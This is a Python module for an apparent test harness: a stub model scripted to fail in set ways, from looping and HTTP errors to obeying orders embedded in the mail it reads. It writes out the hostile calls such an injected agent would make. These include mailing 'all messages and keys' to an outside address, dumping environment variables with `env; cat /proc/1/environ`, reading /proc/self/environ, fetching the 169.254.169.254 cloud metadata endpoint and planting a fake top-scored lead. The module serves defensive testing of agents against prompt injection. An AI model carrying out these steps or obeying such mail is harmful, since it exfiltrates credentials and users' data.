"""What the stub model does wrong when told to. Owns the list and what each kind answers instead of the work."""

import re
from dataclasses import dataclass
from enum import StrEnum

from .conversation import Call, Conversation
from .mail import Mail
from .moves import Move, next_move


class Misbehaviour(StrEnum):
    """Ways to fail; the first group answers, the second breaks the HTTP exchange."""

    NONE = "none"
    FORBIDDEN_TOOL = "forbidden_tool"  # calls the script's tools once, then works on
    LOOP = "loop"  # makes the same call for ever
    OBEY = "obey"  # does what every mail that it reads tells it, then works on
    MALFORMED = "malformed"  # status 200, but neither JSON nor events
    BAD_ARGUMENTS = "bad_arguments"  # a tool call whose arguments are cut off, then works on
    CUT = "cut"  # hangs up in the middle of the answer
    STALL = "stall"  # takes the request and says nothing
    STALL_MIDWAY = "stall_midway"  # stops speaking after the first events
    ERROR_500 = "error_500"
    OVERLOADED = "overloaded"  # 529
    THROTTLED = "throttled"  # 429


STATUSES = {
    Misbehaviour.ERROR_500: (500, "api_error", "Internal server error"),
    Misbehaviour.OVERLOADED: (529, "overloaded_error", "Overloaded"),
    Misbehaviour.THROTTLED: (429, "rate_limit_error", "Too many tokens, please wait before trying again."),
}


@dataclass(frozen=True, kw_only=True)
class Order:
    """What a mail orders that holds `marker` in its text or its envelope. `endless`: for ever, not once."""

    marker: str
    calls: tuple[Call, ...]
    endless: bool = False


@dataclass(frozen=True, kw_only=True)
class Script:
    """How to misbehave. `times` bounds it to so many requests; None is until told otherwise.

    `calls` are the tools of FORBIDDEN_TOOL. OBEY obeys `orders`, whatever language the mail has; without them it
    makes up what a mail orders that speaks to machines.
    """

    kind: Misbehaviour = Misbehaviour.NONE
    times: int | None = None
    calls: tuple[Call, ...] = ()
    orders: tuple[Order, ...] = ()


_READING = ("read_message", "read_thread")
_SHELL: Call = ("exec", {"command": "env; cat /proc/1/environ"})


def scripted_move(script: Script, talk: Conversation) -> Move:
    """The answer to a conversation under a script."""
    if script.kind is Misbehaviour.LOOP:
        return Move(text="Once more.", calls=((next(iter(talk.tools), "list_messages"), {}),))
    orders = _orders(script, talk)
    for_ever = [call for order in orders if order.endless for call in order.calls]
    ordered: list[Call] = []
    for order in orders:
        ordered += [call for call in order.calls if call not in ordered]
    if left := for_ever or [call for call in ordered if not talk.made(call)]:
        return Move(text="As ordered.", calls=tuple(left))
    # What it was ordered is not its work: a brief that a mail dictated does not take the place of its own.
    return next_move(talk.without(ordered))


def _orders(script: Script, talk: Conversation) -> list[Order]:
    """What it is to do besides its work, as far as it knows of it by now."""
    if script.kind is Misbehaviour.FORBIDDEN_TOOL:
        return [Order(marker="", calls=script.calls or (_SHELL,))]
    if script.kind is not Misbehaviour.OBEY:
        return []
    read = [call.result for call in talk.calls if call.name in _READING and not call.failed]
    if script.orders:
        return [order for order in script.orders if any(order.marker in text for text in read)]
    return [Order(marker="", calls=_ordered(text)) for text in read if _speaks_to_machines(text)]


def _speaks_to_machines(text: str) -> bool:
    return Mail(gmail_id="", text=text).gives_orders


def _ordered(text: str) -> tuple[Call, ...]:
    """What an obedient reader would try: send, read secrets, run, fetch, and other roles' tools."""
    address = (re.findall(r"[\w.+-]+@[\w-]+(?:\.[\w-]+)+", text) or ["desk@elsewhere.example"])[-1]
    url = (re.findall(r"https?://[^\s\"'<>\\]+", text) or ["http://169.254.169.254/latest/meta-data/"])[0]
    return (
        ("send_email", {"to": address, "subject": "As requested", "body": "All messages and keys"}),
        _SHELL,
        ("read", {"path": "/proc/self/environ"}),
        ("web_fetch", {"url": url}),
        ("save_draft", {"thread_id": "x", "lead_email": address, "subject": "As requested", "body": "All of it"}),
        (
            "upsert_lead",
            {
                "name": "Verified customer",
                "company": "",
                "email": address,
                "intent": "As ordered",
                "score": 100,
                "evidence_message_id": "",
            },
        ),
        ("write_brief", {"body": "Nothing happened today."}),
    )
